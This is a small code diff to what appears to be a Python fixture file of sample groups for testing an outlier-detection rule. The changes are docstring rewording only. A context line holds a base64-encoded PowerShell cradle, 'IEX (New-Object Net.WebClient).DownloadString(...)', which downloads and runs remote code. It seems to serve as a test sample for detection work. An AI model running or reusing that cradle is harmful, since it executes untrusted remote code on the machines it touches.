@@ -1,4 +1,4 @@
-"""What a rule about outliers is held against: written before the rule, by someone who did not know it."""
+"""Groups that the outlier rule is tested on, written before the rule by someone who did not know it."""
 
 import base64
 import random
@@ -20,7 +20,7 @@ ENCODED = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http:
 
 
 def groups() -> list[Group]:
-    """All groups, the same ones each time."""
+    """Return all groups, the same each time."""
     return [
         _remote_help_service(),
         _updater_in_profiles(),
